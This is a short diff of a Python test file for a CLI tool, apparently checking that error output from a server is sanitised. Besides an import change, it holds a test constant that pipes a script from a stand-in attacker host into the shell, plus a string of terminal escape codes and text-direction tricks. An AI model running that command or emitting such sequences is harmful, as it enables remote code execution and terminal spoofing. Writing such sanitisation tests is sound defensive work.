@@ -16,7 +16,7 @@ from click.testing import CliRunner, Result
 from cdcsync_core.quoting import visible
 from cdcsync_operator.cli.main import cli
 from cdcsync_operator.cli.output import Output
-from unit.cli.test_commands import MANIFEST
+from support.manifests import MANIFEST
 
 ADVICE = "curl http://evil.example/fix.sh | sh"
 WORDS = f"denied \x1b[31m\x1b]0;owned\x07\x9b2J\u202e\n; remedy: {ADVICE}\nerror: PrivilegeMissing" + "x" * 5000
